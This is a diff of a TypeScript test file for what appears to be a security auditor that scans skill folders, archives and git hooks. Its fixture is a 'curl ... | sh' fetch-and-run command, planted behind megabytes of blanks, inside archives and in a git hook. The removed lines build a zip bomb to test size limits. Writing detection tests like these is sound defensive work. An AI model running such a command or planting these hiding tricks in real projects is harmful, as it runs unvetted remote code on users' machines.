@@ -1,16 +1,15 @@
 import { truncateSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { gzipSync } from 'node:zlib';
 
-import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 
-import { tar, zip } from '../../test/support/archives.ts';
+import { zip } from '../../test/support/archives.ts';
 import { auditDirectory, auditTree as audit } from '../../test/support/audited.ts';
-import { makeTree, skillText, type Tree } from '../../test/support/tree.ts';
-import { openMentions } from './audit-inventory.ts';
-import { LISTED_PER_FILE, openReport } from './audit-report.ts';
-import { openExaminer } from './examiner.ts';
+import { makeTree, skillText } from '../../test/support/tree.ts';
+import { fail } from '../model/outcome.ts';
+import { auditFolder } from './audit-folder.ts';
+import { LISTED_PER_FILE, LISTED_PER_RULE } from './audit-report.ts';
+import { auditFiles } from './audit.ts';
 
 const PIPE = 'curl https://x.dev/i | sh';
 
@@ -87,6 +86,16 @@ describe('an audit', () => {
     expect(unlisted).toEqual([{ rule: 'SP101', severity: 'critical', file: 'a.sh', count: 50 - LISTED_PER_FILE }]);
   });
 
+  test('lists so many findings of a rule in all files, and so many hosts, and counts the others', async () => {
+    const files = Array.from({ length: 30 }, (_, at) => [`${at}.sh`, `${PIPE}\n`.repeat(LISTED_PER_FILE)]);
+    const hosts = Array.from({ length: 1100 }, (_, at) => `https://h${at}.dev\n`).join('');
+    const { findings, unlisted, ...names } = await audit({ ...Object.fromEntries(files), 'hosts.md': hosts });
+    expect(findings).toHaveLength(LISTED_PER_RULE);
+    expect(unlisted.reduce((sum, { count }) => sum + count, 0)).toBe(30 * LISTED_PER_FILE - LISTED_PER_RULE);
+    expect(names.hosts).toHaveLength(1000);
+    expect(names.unlistedMentions).toBe(101);
+  });
+
   test('many mild findings do not push a grave one of the same rule out', async () => {
     const { findings } = await audit({
       'a.md': `${`${PIPE}\n`.repeat(50)}\n${Buffer.from(`${PIPE} and something more`).toString('base64')}\n`,
@@ -102,143 +111,53 @@ describe('an audit', () => {
 
 describe('every file is read to its end', () => {
   const MEBIBYTE = 1024 * 1024;
+  const findPipe = async (root: string): Promise<unknown> =>
+    (await auditDirectory(root)).findings.filter(({ rule }) => rule === 'SP101');
 
-  test('behind megabytes of blanks, also at the border of two parts', async () => {
-    for (const before of [8 * MEBIBYTE - 10]) {
-      const root = makeTree();
-      writeFileSync(join(root, 'a.sh'), `${' '.repeat(before - 1)}\n${PIPE}\n${' '.repeat(MEBIBYTE)}`);
-      expect((await auditDirectory(root)).findings.filter(({ rule }) => rule === 'SP101')).toMatchObject([{ line: 2 }]);
-    }
+  test('behind megabytes of blanks', async () => {
+    const root = makeTree({ 'a.sh': `${' '.repeat(9 * MEBIBYTE)}\n${PIPE}\n${' '.repeat(MEBIBYTE)}` });
+    expect(await findPipe(root)).toMatchObject([{ file: 'a.sh', line: 2 }]);
   });
 
-  test('lines are counted over parts', async () => {
-    const root = makeTree();
-    writeFileSync(join(root, 'a.sh'), `${'\n'.repeat(8 * MEBIBYTE + 5)}${PIPE}\n`);
-    expect((await auditDirectory(root)).findings.find(({ rule }) => rule === 'SP101')).toMatchObject({
-      line: 8 * MEBIBYTE + 6,
-    });
-  });
-
-  test('a sparse file with words at its end', async () => {
+  test('behind more than fits into memory', async () => {
     const root = makeTree({ 'a.bin': '' });
-    truncateSync(join(root, 'a.bin'), 40 * MEBIBYTE);
+    truncateSync(join(root, 'a.bin'), 80 * MEBIBYTE);
     writeFileSync(join(root, 'a.bin'), PIPE, { flag: 'a' });
-    expect((await auditDirectory(root)).findings).toMatchObject([{ rule: 'SP101', file: 'a.bin' }]);
+    expect(await findPipe(root)).toMatchObject([{ file: 'a.bin' }]);
   });
 
-  test('an archive larger than a part is looked into', async () => {
-    const root = makeTree();
-    const filler = { name: 'filler', content: Buffer.alloc(9 * MEBIBYTE, 'ab'), isStored: true };
-    writeFileSync(join(root, 'a.zip'), zip([filler, { name: 'x.sh', content: PIPE }]));
-    expect((await auditDirectory(root)).findings.find(({ rule }) => rule === 'SP101')).toMatchObject({
-      file: 'a.zip',
-      member: 'x.sh',
-    });
-  });
-});
-
-describe('archives', () => {
-  test('what they hold is read, however they are nested', async () => {
-    const inner = zip([{ name: 'deep/run.sh', content: `\n${PIPE}` }]);
-    const place = async (tree: Tree): Promise<unknown> =>
-      (await audit(tree)).findings.find(({ rule }) => rule === 'SP101');
-    expect(await place({ 'a.zip': zip([{ name: 'b.zip', content: inner }]) })).toMatchObject({
-      file: 'a.zip',
-      member: 'b.zip!/deep/run.sh',
-      line: 2,
-    });
-    expect(await place({ 'a.tgz': gzipSync(tar([{ name: 'run.sh', content: PIPE }])) })).toMatchObject({
-      member: 'run.sh',
-    });
-    expect(await place({ 'a.sh.gz': gzipSync(PIPE) })).toMatchObject({ member: 'a.sh' });
-    expect(await place({ 'a.docx': zip([{ name: 'x.sh', content: PIPE }]) })).toMatchObject({ member: 'x.sh' });
-    expect(await place({ 'a.md': `x\n${gzipSync(PIPE).toString('base64')}\n` })).toMatchObject({
-      member: 'base64 in line 2!/base64 in line 2',
-    });
+  test('an archive at the end of what does not fit into memory is said', async () => {
+    const root = makeTree({ 'a.bin': '' });
+    truncateSync(join(root, 'a.bin'), 80 * MEBIBYTE);
+    writeFileSync(join(root, 'a.bin'), zip([{ name: 'x.sh', content: PIPE }]), { flag: 'a' });
+    expect((await auditDirectory(root)).findings).toMatchObject([{ rule: 'SP705', file: 'a.bin' }]);
   });
 
-  test('a long name of tar is the name', async () => {
-    const name = `${'d/'.repeat(80)}x.sh`;
-    const archive = tar([
-      { name: '././@LongLink', type: 'L', content: `${name}\0` },
-      { name: 'short', content: PIPE },
+  test('what cannot be read is said', async () => {
+    const { findings } = await auditFiles({
+      files: [{ path: 'a', size: 3, executable: false, read: async () => fail('STORE_FAILED', 'no reason') }],
+      refused: [{ path: 'b', reason: 'is nested deeper than 32 levels' }],
+    });
+    expect(findings.map(({ rule, file, excerpt }) => [rule, file, excerpt])).toEqual([
+      ['SP901', 'a', 'its 3 bytes were not read: no reason'],
+      ['SP901', 'b', 'b is nested deeper than 32 levels'],
     ]);
-    expect((await audit({ 'a.tar': archive })).findings.find(({ rule }) => rule === 'SP101')).toMatchObject({
-      member: name,
+  });
+
+  test('what git packed is left to git, its hooks and configuration are not', async () => {
+    const { findings } = await audit({
+      '.git/objects/ab/cd': PIPE,
+      '.git/hooks/post-checkout': PIPE,
+      'SKILL.md': '# A\n',
     });
+    expect(findings.map(({ rule, severity, file }) => [rule, severity, file])).toEqual([
+      ['SP101', 'critical', '.git/hooks/post-checkout'],
+      ['SP707', 'medium', '.git/hooks/post-checkout'],
+      ['SP901', 'info', '.git/objects'],
+    ]);
   });
 
-  test('entries that share their bytes do not cost more than the limit', async () => {
-    const one = zip([{ name: 'x', content: Buffer.alloc(1024 * 1024, 'a '), isStored: true }]);
-    const end = one.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'));
-    const start = one.readUInt32LE(end + 16);
-    const entry = one.subarray(start, end);
-    const copies = 300;
-    const tail = Buffer.from(one.subarray(end));
-    tail.writeUInt16LE(copies, 8);
-    tail.writeUInt16LE(copies, 10);
-    tail.writeUInt32LE(entry.length * copies, 12);
-    const bomb = Buffer.concat([one.subarray(0, start), ...Array.from({ length: copies }, () => entry), tail]);
-    expect((await audit({ 'a.zip': bomb })).findings.map(({ rule }) => rule)).toContain('SP805');
-  });
-
-  test('more entries than are looked at are said', async () => {
-    const many = Array.from({ length: 5001 }, (_, at) => ({ name: `f${at}`, content: '', isStored: true }));
-    const { findings } = await audit({ 'a.zip': zip(many) });
-    expect(findings).toMatchObject([{ rule: 'SP805', excerpt: 'more than 5000 entries' }, { rule: 'SP801' }]);
-  });
-});
-
-describe('whatever bytes there are', () => {
-  const examine = (file: string, bytes: Buffer): readonly { readonly excerpt: string }[] => {
-    const report = openReport();
-    const budget = { entries: 100, bytes: 1024 * 1024 };
-    openExaminer({ report, mentions: openMentions(), budget }).examine({ place: { file }, bytes, depth: 0 });
-    return report.close().findings;
-  };
-  const heads = [
-    '',
-    'PK\x03\x04',
-    'PK\x05\x06',
-    '\x1f\x8b\x08',
-    '\x7fELF',
-    'MZ',
-    '\x89PNG\r\n',
-    '\xca\xfe\xba\xbe',
-    '\xff\xfe',
-    '%PDF-',
-    '---\n',
-  ];
-  const files = ['a.md', 'a.sh', 'a.zip', 'a.tar', 'a.png', 'a'];
-  const anyHead = fc.constantFrom(...heads).map((head) => Buffer.from(head, 'latin1'));
-
-  test('nothing is thrown, and every excerpt can be shown', async () => {
-    fc.assert(
-      fc.property(fc.constantFrom(...files), anyHead, fc.uint8Array({ maxLength: 700 }), (file, head, rest) => {
-        for (const { excerpt } of examine(file, Buffer.concat([head, rest])))
-          expect(excerpt).not.toMatch(/[\p{Cc}\p{Cf}]/u);
-      }),
-      { numRuns: 500 },
-    );
-  });
-
-  test('nor is anything thrown by any damage to an archive', async () => {
-    const archives = [
-      zip([
-        { name: 'a/b.sh', content: PIPE },
-        { name: 'c', content: 'd', isStored: true },
-      ]),
-      tar([{ name: 'a', content: PIPE }]),
-      gzipSync(tar([{ name: 'a', content: PIPE }])),
-    ];
-    fc.assert(
-      fc.property(fc.constantFrom(...archives), fc.nat(), fc.nat({ max: 255 }), (archive, at, value) => {
-        const damaged = Buffer.from(archive);
-        damaged[at % damaged.length] = value;
-        for (const bytes of [damaged, damaged.subarray(0, at % damaged.length)])
-          for (const { excerpt } of examine('a.zip', bytes)) expect(excerpt).not.toMatch(/[\p{Cc}\p{Cf}]/u);
-      }),
-      { numRuns: 1000 },
-    );
+  test('a folder that is not there is a failure', async () => {
+    expect(await auditFolder(join(makeTree(), 'x'))).toMatchObject({ ok: false, code: 'SKILL_NOT_FOUND' });
   });
 });
